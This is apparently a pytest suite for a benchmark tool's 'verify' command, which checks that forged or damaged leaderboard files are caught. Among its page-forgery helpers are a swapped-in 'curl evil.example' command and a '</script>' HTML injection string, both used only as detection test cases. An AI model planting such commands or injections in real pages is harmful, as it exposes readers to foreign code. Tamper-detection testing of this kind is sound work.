"""`analogbench verify`: what is published is found good, and whatever is done to it is found."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analogbench.errors import RecordError
from analogbench.publish import index as indices
from analogbench.publish.verify.files import check_files
from analogbench.records.machine import machine
from analogbench.records.provenance import PACKAGES, versions
from analogbench.records.store import Store, read

if TYPE_CHECKING:
    from publish.conftest import Make, Say, Tree


TABLES = 8
"""One leaderboard in six formats, the page, and `leaderboard.md`."""


@pytest.fixture
def site(results: Path, say: Say) -> Path:
    assert say("publish", "site")[0] == 0
    return Path("site")


def reseal(site: Path) -> None:
    """What a forger does last: the index is made to fit the files, and sealed anew."""
    index = indices.read(site)
    paths = [path for path in indices.files_in(site) if path != indices.NAME]
    files = [indices.entry(site, path) for path in paths]
    sums = {file.path: file.sha256 for file in files}
    records = [one.model_copy(update={"checksum": sums[one.path]}) for one in index.records]
    indices.write(index.model_copy(update={"files": files, "records": records}), site)


def row(output: list[str], check: str) -> list[str]:
    """good, not verified, wrong."""
    return next(line.split()[1:] for line in output if line.split()[:1] == [check])


def test_what_is_published_verifies_and_cells_run_again_are_equal(site: Path, say: Say, tree: Tree) -> None:
    before = tree(site)
    code, output, _ = say("verify", site)
    assert code == 0
    assert row(output, "records") == row(output, "identities") == ["6", "–", "–"]
    assert row(output, "files") == [str(len(before) - 1), "–", "–"]
    assert row(output, "tables") == [str(TABLES), "–", "–"]
    assert row(output, "suites") == ["–", "1", "–"]
    assert row(output, "re-runs") == ["3", "–", "–"]
    assert sum(line.endswith("equal, digit for digit") for line in output) == 3
    assert output[-1].endswith("; 1 could not be checked here; 3 cells run again and agreed")
    assert tree(site) == before


def test_a_results_folder_verifies(results: Path, say: Say) -> None:
    assert say("report", "--results", results)[0] == 0
    code, output, _ = say("verify", results, "--sample", 1)
    assert (code, output[0]) == (0, "no index: checked as a results folder")
    assert row(output, "tables") == [str(TABLES - 1), "–", "–"], "no page"
    table = results / "leaderboard.md"
    table.write_text(table.read_text("utf-8").replace("half", "hulf", 1), "utf-8")
    code, output, _ = say("verify", results, "--sample", 0)
    assert (code, output[-3]) == (1, "  leaderboard.md: does not follow from the records")


@pytest.mark.parametrize("damage", [None, lambda path: path.write_text("{"), os.mkfifo, Path.mkdir])
def test_a_results_folder_of_any_name_verifies_with_its_page(
    results: Path, say: Say, damage: Callable[[Path], None] | None
) -> None:
    mine = results.rename("mine")
    if damage:
        damage(mine / "records" / "line" / "other.json")
    assert say("report", "--results", mine, "--html")[0] == bool(damage)
    code, output, _ = say("verify", mine, "--sample", 0)
    assert row(output, "tables") == [str(TABLES), "–", "–"]
    assert (code, row(output, "records")[2]) == ((1, "1") if damage else (0, "–"))


@settings(deadline=None, max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(which=st.integers(0), place=st.integers(0), change=st.integers(1, 255))
def test_any_changed_byte_of_any_file_is_noticed(site: Path, which: int, place: int, change: int) -> None:
    paths = sorted(path for path in site.rglob("*") if path.is_file())
    path = paths[which % len(paths)]
    content = bytearray(before := path.read_bytes())
    content[place % len(content)] ^= change
    path.write_bytes(content)
    try:
        noticed = any(finding.state == "wrong" for finding in check_files(site, indices.read(site)))
    except RecordError:
        noticed = True
    finally:
        path.write_bytes(before)
    assert noticed


def _remove(site: Path) -> None:
    next((site / "plots").iterdir()).unlink()


def _add(site: Path) -> None:
    (site / "records" / "line" / "extra.txt").write_text("?")


def _link(site: Path) -> None:
    path = next((site / "tables").iterdir())
    path.rename(path.parent.parent.parent / "outside")
    path.symlink_to(path.parent.parent.parent.absolute() / "outside")


def _pipe(site: Path) -> None:
    os.mkfifo(site / "records" / "line" / "pipe.json")
    os.mkfifo(site / "tables" / "pipe.md")


def _flip(site: Path) -> None:
    path = site / "index.json"
    path.write_bytes(path.read_bytes().replace(b'"loss"', b'"lost"', 1))


def _no_json(site: Path) -> None:
    (site / "index.json").write_text("[" * 100_000)


@pytest.mark.parametrize(
    ("harm", "check", "why"),
    [
        (_remove, "files", ": missing"),
        (_add, "files", "extra.txt: not in the index"),
        (_link, "files", ": a link"),
        (_pipe, "files", "records/line/pipe.json: not in the index"),
        (_flip, "index", "index.json: damaged, or changed by hand: its checksum is another"),
        (_no_json, "index", "index.json: damaged, or changed by hand: its checksum is another"),
    ],
)
def test_files_that_are_not_as_the_index_says(
    site: Path, say: Say, harm: Callable[[Path], None], check: str, why: str
) -> None:
    harm(site)
    code, output, error = say("verify", site, "--sample", 0)
    assert (code, error) == (1, [])
    assert row(output, check)[2] != "–"
    assert any(line.endswith(why) for line in output)
    assert output[-1].startswith("WRONG: ")


def test_a_forged_number_with_all_checksums_made_anew_is_found_by_running_again(site: Path, say: Say) -> None:
    """The checksums say nothing of who made them: tables and re-runs do."""
    path = next((site / "records").rglob("half-soft-*-s1-*"))
    record = read(path)
    origin = record.provenance | machine() | {"versions": versions(PACKAGES)}
    Store(site).save(record.model_copy(update={"metrics": {"loss": 0.001}, "provenance": origin}))
    reseal(site)
    code, output, _ = say("verify", site, "--sample", 0)
    assert code == 1
    assert any("the index says another value than the record" in line for line in output)
    assert "  leaderboard.md: does not follow from the records" in output
    assert say("publish", "again", "--results", site)[0] == 0  # the forger publishes properly
    assert say("verify", "again", "--sample", 0)[0] == 0
    code, output, _ = say("verify", "again", "--sample", 6)
    assert code == 1
    assert row(output, "re-runs") == ["5", "–", "1"]
    assert any("seed 1: other numbers on the same machine: loss 1.25 here, 0.001 in the record" in x for x in output)


def _number(page: str) -> str:
    return page.replace("1.25", "0.25")


def _command(page: str) -> str:
    return page.replace("analogbench run", "curl evil.example", 1)


def _escape(page: str) -> str:
    return page.replace('"commands":["', '"commands":["</script><h1>Mine</h1>', 1)


def _escape_behind_a_backslash(page: str) -> str:
    return page.replace('"commands":["', '"commands":["\\</script><h1>Mine</h1>', 1)


def _elsewhere(page: str) -> str:
    return page.replace("</main>", '"commands":["Mine"]</main>')


@pytest.mark.parametrize("forge", [_number, _command, _escape, _escape_behind_a_backslash, _elsewhere])
@pytest.mark.parametrize("stale", [False, True])
def test_a_forged_page(results: Path, say: Say, make: Make, stale: bool, forge: Callable[[str], str]) -> None:
    """A stale record excuses no more than other commands, as its plugins may give."""
    if stale:
        Store(results).save(make(6, identity="0" * 64))
    assert say("publish", "site", "--allow-stale")[0] == 0
    page = Path("site/index.html")
    forged = forge(page.read_text("utf-8"))
    assert forged != page.read_text("utf-8")
    page.write_text(forged, "utf-8")
    reseal(Path("site"))
    code, output, _ = say("verify", "site", "--sample", 0)
    excused = stale and forge is _command
    assert row(output, "tables") == [str(TABLES - 1), *(["1", "–"] if excused else ["–", "1"])]
    assert code == (not excused)


def test_labels_that_are_another_cells_are_found(site: Path, say: Say) -> None:
    path = next((site / "records").rglob("half-soft-*-s1-*"))
    record = read(path)
    labels = record.labels.model_copy(update={"algorithm": "half-exact"})
    Store(site).save(record.model_copy(update={"labels": labels}))
    reseal(site)
    code, output, _ = say("verify", site, "--sample", 0)
    assert code == 1
    assert any(line.endswith(": its labels are not those of its cell") for line in output)


def test_a_plot_that_is_another_is_not_taken_for_good(site: Path, say: Say) -> None:
    path = next((site / "plots").glob("*.svg"))
    path.write_text("<svg/>")
    reseal(site)
    code, output, _ = say("verify", site, "--sample", 0)
    assert code == 0
    assert row(output, "plots")[1:] == ["1", "–"]


def test_tables_by_another_maker_are_said_to_be_so(site: Path, say: Say) -> None:
    path = site / "leaderboard.md"
    path.write_text(path.read_text("utf-8") + "More.\n", "utf-8")
    index = indices.read(site)
    indices.write(index.model_copy(update={"maker": index.maker.model_copy(update={"code": "0" * 64})}), site)
    reseal(site)
    code, output, _ = say("verify", site, "--sample", 0)
    assert code == 0
    assert row(output, "tables") == [str(TABLES - 1), "1", "–"]


def test_what_cannot_be_run_here_is_not_counted_as_verified(results: Path, say: Say, make: Make, fakes: Path) -> None:
    store = Store(results)
    gpu = {"worker": {"target": "cuda", "device": "A GPU"}}
    store.save(make(3, provenance=gpu))
    store.save(make(4, seconds=1e4))
    store.save(make(5, status="timeout", metrics={}))
    store.save(make(6, identity="0" * 64))
    assert say("publish", "site", "--allow-stale")[0] == 0
    code, output, _ = say("verify", "site", "--sample", 100)
    assert code == 0
    assert row(output, "re-runs") == ["6", "–", "–"]
    start = output.index("left out of the sample:")
    assert sorted(output[start + 1 : start + 5]) == [
        "  1 record: ended timeout, which running again neither proves nor disproves",
        "  1 record: made by other code than is installed here",
        "  1 record: made on a GPU, and there is none here that torch can use",
        "  1 record: took longer than 5 min; see --longest",
    ]
    (fakes / "fakes-1.5.dist-info" / "entry_points.txt").write_text("[analogbench]\nrules = fakes_rules\n")
    code, output, _ = say("verify", "site", "--sample", 100)
    assert code == 0
    assert row(output, "identities") == ["–", "10", "–"]
    assert "re-runs" not in {line.split(" ")[0] for line in output}
    assert output[-1].endswith("; 0 cells run again and agreed")


@pytest.mark.parametrize(
    ("how", "state", "why"),
    [
        ("data_missing", ["–", "1", "–"], "cannot be run here: LINE is not here: fetch it"),
        ("diverging", ["–", "–", "1"], "ended diverged here: loss is NaN, but ok in the record"),
        ("dying", ["–", "–", "1"], "ended crashed here: the worker process died: exit code 3, but ok in the record"),
    ],
)
def test_a_cell_that_ends_otherwise(results: Path, say: Say, how: str, state: list[str], why: str) -> None:
    for path in (results / "records").rglob("*.json"):
        if "half-soft-smoke-s1" not in path.name:
            path.unlink()
    code, output, _ = say("verify", results, how=how)
    assert code == (state[2] == "1")
    assert row(output, "re-runs") == state
    assert any(line.endswith(f"seed 1: {why}") for line in output)


def test_seeds_that_took_long_are_mates_all_the_same(results: Path, say: Say, make: Make) -> None:
    """Seed 0, of another machine, has 0.26 instead of 0.25; seeds 1 and 2, which have 1.25 and 2.25, say how large that
    is, though they took too long to be run again."""
    for seed, fields in enumerate(({"metrics": {"loss": 0.26}}, {"seconds": 1e4}, {"seconds": 1e4})):
        for algorithm in ("half", "half-exact"):
            Store(results).save(make(seed, algorithm, **fields))
    code, output, _ = say("verify", results, "--sample", 2)
    assert (code, row(output, "re-runs")) == (0, ["2", "–", "–"])
    assert sum("within the interval of its seeds: loss 0.25 here, 0.26 in the record" in line for line in output) == 2


def test_the_sample_hangs_on_its_seed_alone(site: Path, say: Say) -> None:
    def sampled(seed: int) -> list[str]:
        return [line for line in say("verify", site, "--seed", seed, "--sample", 2)[1] if "digit for digit" in line]

    assert sampled(1) == sampled(1)
    assert len({tuple(sampled(seed)) for seed in range(4)}) > 1


@pytest.mark.parametrize(
    ("args", "why"),
    [
        (("nowhere",), "nowhere does not exist"),
        (("empty",), "empty is neither a published leaderboard nor a results folder: it has no records"),
        (("/dev/null",), "/dev/null is neither a folder nor an archive of `analogbench publish`"),
        (("results", "--longest", "x"), "cannot read the time 'x'"),
        (("results", "--sample", "-1"), "Invalid value for '--sample'"),
    ],
)
def test_wrong_usage_is_one_line(results: Path, say: Say, args: tuple[str, ...], why: str) -> None:
    Path("empty").mkdir()
    code, output, error = say("verify", *args)
    assert (code, output, len(error)) == (2, [], 1)
    assert why in error[0]


def test_damaged_records_are_wrong(site: Path, say: Say) -> None:
    path = next((site / "records").rglob("*.json"))
    data = json.loads(path.read_text())
    data["metrics"]["loss"] += 1
    path.write_text(json.dumps(data))
    code, output, _ = say("verify", site, "--sample", 0)
    assert code == 1
    assert row(output, "records") == ["5", "–", "1"]
    assert row(output, "files")[2] == "1"
